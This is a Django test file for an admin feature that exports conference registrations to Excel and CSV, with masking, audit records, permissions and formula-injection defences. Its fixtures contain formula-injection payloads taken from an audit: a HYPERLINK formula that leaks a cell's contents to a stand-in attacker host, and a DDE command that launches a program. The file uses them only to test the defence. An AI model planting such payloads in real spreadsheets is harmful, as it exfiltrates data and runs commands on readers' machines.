"""The registration list in Excel and CSV: exact rows and headers, a reason on record,
and masked contact details for the desk."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from attendees.models import AccessRecord
from tests.factories import ForumFactory, RegistrationFactory, seoul

pytestmark = pytest.mark.django_db
EXPORT = "/admin/attendees/registration/export/"
HEADERS = [
    "번호",
    "이름",
    "소속",
    "직위",
    "분야",
    "이메일",
    "전화번호",
    "상태",
    "대기 순번",
    "현장 등록",
    "정원 외",
    "신청 시각 (KST)",
    "현장 확인 시각 (KST)",
]


@pytest.fixture
def forum():
    forum = ForumFactory(number=3, capacity=1)
    RegistrationFactory(
        forum=forum,
        name="이대기",
        email="lee@example.kr",
        phone="01098765432",
        status="waitlisted",
        sector="academia",
        organization="전남대학교",
        position="교수",
        created_at=seoul(2020, 8, 7, 10, 0),
    )
    RegistrationFactory(
        forum=forum,
        name="김광주",
        email="kim.gwangju@example.kr",
        phone="01012345678",
        sector="industry",
        organization="광주AI",
        position="연구원",
        created_at=seoul(2020, 8, 6, 9, 15),
        checked_in_at=seoul(2020, 9, 9, 7, 12),
    )
    RegistrationFactory(
        forum=forum, name="박취소", email="park@example.kr", status="cancelled", created_at=seoul(2020, 8, 6, 11, 0)
    )
    return forum


def test_the_excel_list_has_exact_headers_and_rows_and_its_reason_is_recorded(admin_client, forum):
    response = admin_client.post(EXPORT, {"forum": forum.pk, "file_format": "xlsx", "reason": "참석자 명단 출력"})
    assert response["Content-Disposition"] == f'attachment; filename="{forum.slug}-registrations.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows == [
        HEADERS,
        [
            1,
            "김광주",
            "광주AI",
            "연구원",
            "산업",
            "kim.gwangju@example.kr",
            "010-1234-5678",  # as written, and the 0 stays when Excel opens it
            "참가 확정",
            None,
            None,
            None,
            datetime.datetime(2020, 8, 6, 9, 15),
            datetime.datetime(2020, 9, 9, 7, 12),
        ],
        [
            2,
            "이대기",
            "전남대학교",
            "교수",
            "학계",
            "lee@example.kr",
            "010-9876-5432",
            "대기자",
            1,
            None,
            None,
            datetime.datetime(2020, 8, 7, 10, 0),
            None,
        ],
        [
            3,
            "박취소",
            "광주AI",
            "연구원",
            "산업",
            "park@example.kr",
            None,  # Excel keeps no empty text
            "취소됨",
            None,
            None,
            None,
            datetime.datetime(2020, 8, 6, 11, 0),
            None,
        ],
    ]
    record = AccessRecord.objects.get(kind="export")
    assert (record.username, record.row_count, record.details["reason"], record.details["masked"]) == (
        "admin",
        3,
        "참석자 명단 출력",
        False,
    )


def test_the_csv_opens_in_excel_with_korean_and_the_forum_manager_gets_it_masked(client, forum):
    call_command("setup_roles")
    manager = User.objects.create_user("manager", password="a-long-password-1", is_staff=True)
    manager.groups.add(Group.objects.get(name="포럼 담당자"))
    client.force_login(manager)
    response = client.post(EXPORT, {"forum": forum.pk, "file_format": "csv", "reason": "현장 명단"})
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == HEADERS
    assert rows[1][5:7] == ["k***@example.kr", "010-****-5678"]
    assert rows[2][5:9] == ["l***@example.kr", "010-****-5432", "대기자", "1"]
    assert rows[1][11:] == ["2020-08-06 09:15", "2020-09-09 07:12"]
    assert AccessRecord.objects.get(kind="export").details["masked"] is True


def test_an_export_needs_a_reason(admin_client, forum):
    response = admin_client.post(EXPORT, {"forum": forum.pk, "file_format": "xlsx", "reason": ""})
    assert response.context["form"].errors == {"reason": ["내려받는 이유를 입력해 주세요."]}
    assert not AccessRecord.objects.filter(kind="export").exists()


def test_an_editor_cannot_export_registrations(client, forum):
    call_command("setup_roles")
    editor = User.objects.create_user("editor", password="a-long-password-1", is_staff=True)
    editor.groups.add(Group.objects.get(name="콘텐츠 편집자"))
    client.force_login(editor)
    assert client.get(EXPORT).status_code == 403
    assert client.post(EXPORT, {"forum": forum.pk, "file_format": "csv", "reason": "x"}).status_code == 403


def test_the_list_shows_queue_positions_and_filters_by_check_in(admin_client, forum):
    for minute in (1, 2):
        RegistrationFactory(forum=forum, status="waitlisted", created_at=seoul(2020, 8, 8, 9, minute))
    response = admin_client.get(
        "/admin/attendees/registration/", {"forum__id__exact": forum.pk, "status__exact": "waitlisted"}
    )
    assert [r.queue_position for r in response.context["cl"].result_list] == [3, 2, 1]  # newest first, as listed
    checked = admin_client.get("/admin/attendees/registration/", {"checked_in": "yes"})
    assert [r.name for r in checked.context["cl"].result_list] == ["김광주"]
    not_yet = admin_client.get("/admin/attendees/registration/", {"checked_in": "no"})
    assert "김광주" not in [r.name for r in not_yet.context["cl"].result_list]


def test_the_list_costs_the_same_queries_with_more_people(admin_client, forum):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            admin_client.get("/admin/attendees/registration/")
        return len(captured)

    before = queries()
    RegistrationFactory.create_batch(20, forum=forum, status="waitlisted")
    assert queries() == before


# What the second audit registered: each would run as a formula in Excel.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&F3,"클릭")'
FORMULA_ORGANIZATION = "+cmd|' /C calc'!A0"
FORMULA_POSITION = "@SUM(1+1)"


@pytest.fixture
def formula_registration(forum):
    return RegistrationFactory(
        forum=forum,
        name=FORMULA_NAME,
        email="formula@example.kr",
        organization=FORMULA_ORGANIZATION,
        position=FORMULA_POSITION,
        created_at=seoul(2020, 8, 5, 9, 0),
    )


def test_typed_formulas_stay_text_in_the_excel_list(admin_client, formula_registration):
    response = admin_client.post(
        EXPORT, {"forum": formula_registration.forum_id, "file_format": "xlsx", "reason": "명단"}
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(row for row in sheet.iter_rows(min_row=2) if row[5].value == "formula@example.kr")
    assert [(cell.value, cell.data_type) for cell in row[1:4]] == [
        (FORMULA_NAME, "s"),
        (FORMULA_ORGANIZATION, "s"),
        (FORMULA_POSITION, "s"),
    ]
    text_cells = [cell for line in sheet.iter_rows() for cell in line if isinstance(cell.value, str)]
    assert len(text_cells) == 13 + 4 * 7 - 2  # the headers, seven texts in each of four rows, two without a phone
    assert {cell.data_type for cell in text_cells} == {"s"}


def test_typed_formulas_are_neutralised_in_the_csv_list(admin_client, formula_registration):
    response = admin_client.post(
        EXPORT, {"forum": formula_registration.forum_id, "file_format": "csv", "reason": "명단"}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row[5] == "formula@example.kr")
    assert row[1:4] == ["'" + FORMULA_NAME, "'" + FORMULA_ORGANIZATION, "'" + FORMULA_POSITION]
    # The rest of the list is as it was: a text that does not start like a formula is untouched.
    assert [row[1] for row in rows[1:]] == ["'" + FORMULA_NAME, "김광주", "이대기", "박취소"]


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+82", "'+82"),
        ("-3", "'-3"),
        ("@me", "'@me"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("김=광주", "김=광주"),
        ("", ""),
    ],
)
def test_each_formula_start_is_prefixed_in_a_csv_cell(typed, written):
    from forum_site.core.spreadsheets import csv_bytes

    content = csv_bytes([[typed, 7, None]])
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == [[written, "7", ""]]


def test_the_excel_list_opens_readable_with_filters_and_the_door_columns(admin_client, forum):
    RegistrationFactory(
        forum=forum,
        name="최현장",
        phone="0621234567",
        walk_in=True,
        over_capacity=True,
        checked_in_at=seoul(2020, 9, 9, 7, 25),
    )
    response = admin_client.post(EXPORT, {"forum": forum.pk, "file_format": "xlsx", "reason": "현장 명단"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert (sheet.auto_filter.ref, sheet.freeze_panes) == ("A1:M5", "A2")
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABFGLM"}
    # No ####: the times fit their 16 characters, the longest address its own.
    assert widths["L"] >= 17 and widths["M"] >= 17
    assert widths["F"] >= len("kim.gwangju@example.kr")
    row = next(row for row in sheet.iter_rows(min_row=2, values_only=True) if row[1] == "최현장")
    assert row[6:11] == ("062-123-4567", "참가 확정", None, "예", "예")
    assert row[12] == datetime.datetime(2020, 9, 9, 7, 25)


def test_phones_keep_their_zero_in_the_csv(admin_client, forum):
    response = admin_client.post(EXPORT, {"forum": forum.pk, "file_format": "csv", "reason": "명단"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[6] for row in rows[1:]] == ["010-1234-5678", "010-9876-5432", ""]


def test_the_masked_list_keeps_a_foreign_phones_country_code_and_last_four_digits(client, forum):
    RegistrationFactory(forum=forum, name="Anna Schmidt", email="anna@example.de", phone="+4915112345678")
    call_command("setup_roles")
    manager = User.objects.create_user("manager", password="a-long-password-1", is_staff=True)
    manager.groups.add(Group.objects.get(name="포럼 담당자"))
    client.force_login(manager)
    response = client.post(EXPORT, {"forum": forum.pk, "file_format": "csv", "reason": "현장 명단"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    [anna] = [row for row in rows if row[1] == "Anna Schmidt"]
    # Masked, not left empty; the leading ' is the list's guard against a formula ("+...").
    assert anna[5:7] == ["a***@example.de", "'+49 **** ***5678"]
